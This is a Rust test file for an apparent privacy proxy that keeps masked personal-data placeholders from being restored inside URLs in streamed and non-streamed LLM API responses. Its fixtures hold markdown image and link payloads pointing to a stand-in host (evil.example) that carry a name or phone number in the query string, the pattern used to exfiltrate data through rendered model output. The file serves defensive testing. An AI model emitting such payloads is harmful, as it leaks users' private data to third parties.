//! Placeholders inside URLs stay masked in every stream shape, whatever the chunking:
//! the same answer is sent as deltas split at every character boundary (and, bounded,
//! at pairs of boundaries) and must come out exactly as the unsplit answer does.

use std::sync::Arc;

use serde_json::json;

use super::tests::{channels, events};
use super::*;

const NAME: &str = "山田太郎";
const PHONE: &str = "090-1234-5678";

fn table(restore_in_urls: bool) -> Arc<Placeholders> {
    let mut t = Placeholders::new();
    // Fixed placeholders: these fixtures split them across deltas at every byte.
    t.with_fixed("〔氏名1〕", NAME);
    t.with_fixed("〔電話1〕", PHONE);
    t.set_restore_in_urls(restore_in_urls);
    Arc::new(t)
}

/// A prose answer with placeholders in prose, in a link, an image, an HTML attribute
/// and a bare URL.
const ANSWER: &str = "〔氏名1〕様、[資料](https://ev.example/d?n=〔氏名1〕)をご確認ください。\
![x](https://evil.example/c?n=〔電話1〕)<img src=\"//e/〔氏名1〕\"> 〔電話1〕 www.e.example/〔氏名1〕 以上";
const ANSWER_RESTORED: &str = "山田太郎様、[資料](https://ev.example/d?n=〔氏名1〕)をご確認ください。\
![x](https://evil.example/c?n=〔電話1〕)<img src=\"//e/〔氏名1〕\"> 090-1234-5678 www.e.example/〔氏名1〕 以上";

/// Tool call arguments (JSON source): a URL member and a name member.
const ARGS: &str = r#"{"url":"https:\/\/evil.example\/?n=〔氏名1〕","to":"〔氏名1〕","md":"[a](/x?t=〔電話1〕) 〔電話1〕"}"#;
const ARGS_RESTORED: &str = r#"{"url":"https:\/\/evil.example\/?n=〔氏名1〕","to":"山田太郎","md":"[a](/x?t=〔電話1〕) 090-1234-5678"}"#;

/// One stream shape: how to frame a list of deltas, and the channel to read back.
struct Shape {
    name: &'static str,
    kind: ApiKind,
    format: StreamFormat,
    /// Label of the channel in [`channels`].
    channel: &'static str,
    /// Whether the channel is JSON source (tool arguments).
    json_source: bool,
    build: fn(&[&str]) -> String,
}

fn sse(events: &[(Option<&str>, serde_json::Value)]) -> String {
    let mut out = String::new();
    for (name, data) in events {
        if let Some(n) = name {
            out.push_str(&format!("event: {n}\n"));
        }
        out.push_str(&format!("data: {data}\n\n"));
    }
    out
}

fn openai_chat(pieces: &[&str]) -> String {
    let mut evs: Vec<_> = pieces
        .iter()
        .map(|p| {
            (
                None,
                json!({"choices":[{"index":0,"delta":{"content":p},"finish_reason":null}]}),
            )
        })
        .collect();
    evs.push((
        None,
        json!({"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}),
    ));
    sse(&evs) + "data: [DONE]\n\n"
}

fn openai_chat_tool(pieces: &[&str]) -> String {
    let mut evs: Vec<_> = pieces
        .iter()
        .map(|p| {
            (
                None,
                json!({"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":p}}]},"finish_reason":null}]}),
            )
        })
        .collect();
    evs.push((
        None,
        json!({"choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}),
    ));
    sse(&evs) + "data: [DONE]\n\n"
}

fn openai_responses(pieces: &[&str]) -> String {
    let mut evs: Vec<_> = pieces
        .iter()
        .map(|p| {
            (
                Some("response.output_text.delta"),
                json!({"type":"response.output_text.delta","item_id":"m1","output_index":0,"content_index":0,"delta":p}),
            )
        })
        .collect();
    evs.push((
        Some("response.completed"),
        json!({"type":"response.completed","response":{"status":"completed"}}),
    ));
    sse(&evs)
}

fn anthropic(pieces: &[&str], delta_type: &str, field: &str) -> String {
    let mut evs = vec![
        (
            Some("message_start"),
            json!({"type":"message_start","message":{"id":"m","content":[]}}),
        ),
        (
            Some("content_block_start"),
            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
        ),
    ];
    for p in pieces {
        evs.push((
            Some("content_block_delta"),
            json!({"type":"content_block_delta","index":0,"delta":{"type":delta_type, field:p}}),
        ));
    }
    evs.push((
        Some("content_block_stop"),
        json!({"type":"content_block_stop","index":0}),
    ));
    evs.push((Some("message_stop"), json!({"type":"message_stop"})));
    sse(&evs)
}

fn anthropic_text(pieces: &[&str]) -> String {
    anthropic(pieces, "text_delta", "text")
}

fn anthropic_json(pieces: &[&str]) -> String {
    anthropic(pieces, "input_json_delta", "partial_json")
}

fn gemini_events(pieces: &[&str]) -> Vec<serde_json::Value> {
    let n = pieces.len();
    pieces
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let mut c = json!({"content":{"parts":[{"text":p}],"role":"model"},"index":0});
            if i + 1 == n {
                c["finishReason"] = json!("STOP");
            }
            json!({"candidates":[c]})
        })
        .collect()
}

fn gemini_sse(pieces: &[&str]) -> String {
    let evs: Vec<_> = gemini_events(pieces)
        .into_iter()
        .map(|v| (None, v))
        .collect();
    sse(&evs)
}

fn gemini_array(pieces: &[&str]) -> String {
    let items: Vec<String> = gemini_events(pieces)
        .iter()
        .map(|v| v.to_string())
        .collect();
    format!("[{}]", items.join("\n,"))
}

const SHAPES: &[Shape] = &[
    Shape {
        name: "openai chat content",
        kind: ApiKind::OpenAiChat,
        format: StreamFormat::Sse,
        channel: "c0",
        json_source: false,
        build: openai_chat,
    },
    Shape {
        name: "openai chat tool arguments",
        kind: ApiKind::OpenAiChat,
        format: StreamFormat::Sse,
        channel: "t0.0",
        json_source: true,
        build: openai_chat_tool,
    },
    Shape {
        name: "openai responses",
        kind: ApiKind::OpenAiResponses,
        format: StreamFormat::Sse,
        channel: "response.output_text.delta/m1",
        json_source: false,
        build: openai_responses,
    },
    Shape {
        name: "anthropic text",
        kind: ApiKind::AnthropicMessages,
        format: StreamFormat::Sse,
        channel: "0",
        json_source: false,
        build: anthropic_text,
    },
    Shape {
        name: "anthropic partial_json",
        kind: ApiKind::AnthropicMessages,
        format: StreamFormat::Sse,
        channel: "0",
        json_source: true,
        build: anthropic_json,
    },
    Shape {
        name: "gemini sse",
        kind: ApiKind::GeminiGenerateContent,
        format: StreamFormat::Sse,
        channel: "0",
        json_source: false,
        build: gemini_sse,
    },
    Shape {
        name: "gemini json array",
        kind: ApiKind::GeminiGenerateContent,
        format: StreamFormat::JsonArray,
        channel: "0",
        json_source: false,
        build: gemini_array,
    },
];

/// The channel text the client receives for `pieces` sent as deltas; the wire bytes
/// are pushed in chunks of `chunk` bytes.
fn client_text(shape: &Shape, t: &Arc<Placeholders>, pieces: &[&str], chunk: usize) -> String {
    let wire = (shape.build)(pieces);
    let mut r = ResponseRestorer::new(shape.kind, shape.format, t.clone());
    let mut out = Vec::new();
    for c in wire.as_bytes().chunks(chunk) {
        out.extend(r.push(c));
    }
    out.extend(r.finish());
    let texts = channels(shape.kind, &events(shape.format, &out));
    texts.get(shape.channel).cloned().unwrap_or_default()
}

fn boundaries(s: &str) -> Vec<usize> {
    s.char_indices().map(|(i, _)| i).chain([s.len()]).collect()
}

#[test]
fn placeholders_in_urls_stay_masked_at_every_delta_split() {
    for restore_in_urls in [false, true] {
        let t = table(restore_in_urls);
        for shape in SHAPES {
            let (answer, want) = if shape.json_source {
                (ARGS, ARGS_RESTORED)
            } else {
                (ANSWER, ANSWER_RESTORED)
            };
            let want = if restore_in_urls {
                answer
                    .replace("〔氏名1〕", NAME)
                    .replace("〔電話1〕", PHONE)
            } else {
                want.to_string()
            };
            let whole = client_text(shape, &t, &[answer], usize::MAX);
            assert_eq!(whole, want, "{}: unsplit", shape.name);
            let bounds = boundaries(answer);
            // Every single split point, wire pushed whole and in 5-byte chunks.
            for &a in &bounds {
                let pieces = [&answer[..a], &answer[a..]];
                for chunk in [usize::MAX, 5] {
                    let got = client_text(shape, &t, &pieces, chunk);
                    assert_eq!(got, want, "{}: split at {a}, chunk {chunk}", shape.name);
                }
            }
            // Pairs of split points, bounded: every third boundary against every
            // seventh.
            for &a in bounds.iter().step_by(3) {
                for &b in bounds.iter().step_by(7).filter(|&&b| b >= a) {
                    let pieces = [&answer[..a], &answer[a..b], &answer[b..]];
                    let got = client_text(shape, &t, &pieces, usize::MAX);
                    assert_eq!(got, want, "{}: split at {a},{b}", shape.name);
                }
            }
        }
    }
}

#[test]
fn character_by_character_deltas_keep_url_context() {
    // One delta per character: the scanner sees `](https://ev` in pieces of one.
    let t = table(false);
    for shape in SHAPES {
        let (answer, want) = if shape.json_source {
            (ARGS, ARGS_RESTORED)
        } else {
            (ANSWER, ANSWER_RESTORED)
        };
        let bounds = boundaries(answer);
        let pieces: Vec<&str> = bounds.windows(2).map(|w| &answer[w[0]..w[1]]).collect();
        assert_eq!(client_text(shape, &t, &pieces, 64), want, "{}", shape.name);
    }
}

#[test]
fn non_streamed_bodies_keep_url_context() {
    use crate::payload::response::restore_json_body;
    let t = table(false);
    let body = json!({
        "choices":[{"message":{"content":ANSWER,"tool_calls":[{"function":{"name":"f","arguments":ARGS}}]}}]
    })
    .to_string();
    let (out, _) = restore_json_body(body.as_bytes(), &t).unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["choices"][0]["message"]["content"], ANSWER_RESTORED);
    assert_eq!(
        v["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"],
        ARGS_RESTORED
    );
}

#[test]
fn a_url_split_across_content_blocks_is_still_a_url() {
    // A client may render consecutive text blocks (parts) glued together, so the URL
    // context of one block carries over into the next.
    use crate::payload::response::restore_json_body;
    let t = table(false);
    let first = "〔氏名1〕様 ![x](https://evil.example/?n=";
    let second = "〔氏名1〕) 〔氏名1〕様";
    let want = [
        "山田太郎様 ![x](https://evil.example/?n=",
        "〔氏名1〕) 山田太郎様",
    ];
    let anthropic = json!({"content":[{"type":"text","text":first},{"type":"text","text":second}]});
    let gemini = json!({"candidates":[{"content":{"parts":[{"text":first},{"text":second}]}}]});
    let responses = json!({"output":[{"type":"message","content":[{"type":"output_text","text":first},{"type":"output_text","text":second}]}]});
    for (body, at) in [
        (anthropic, "/content"),
        (gemini, "/candidates/0/content/parts"),
        (responses, "/output/0/content"),
    ] {
        let (out, _) = restore_json_body(body.to_string().as_bytes(), &t).unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        for (i, w) in want.iter().enumerate() {
            assert_eq!(v.pointer(&format!("{at}/{i}/text")).unwrap(), w, "{at}");
        }
    }
    // Streamed: block 0 ends inside the URL, block 1 goes on.
    let wire = sse(&[
        (
            Some("content_block_start"),
            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
        ),
        (
            Some("content_block_delta"),
            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":first}}),
        ),
        (
            Some("content_block_stop"),
            json!({"type":"content_block_stop","index":0}),
        ),
        (
            Some("content_block_start"),
            json!({"type":"content_block_start","index":1,"content_block":{"type":"text","text":""}}),
        ),
        (
            Some("content_block_delta"),
            json!({"type":"content_block_delta","index":1,"delta":{"type":"text_delta","text":second}}),
        ),
        (
            Some("content_block_stop"),
            json!({"type":"content_block_stop","index":1}),
        ),
        (Some("message_stop"), json!({"type":"message_stop"})),
    ]);
    let mut r = ResponseRestorer::new(ApiKind::AnthropicMessages, StreamFormat::Sse, t.clone());
    let mut out = r.push(wire.as_bytes());
    out.extend(r.finish());
    let texts = channels(ApiKind::AnthropicMessages, &events(StreamFormat::Sse, &out));
    assert_eq!(texts["0"], want[0]);
    assert_eq!(texts["1"], want[1]);
}
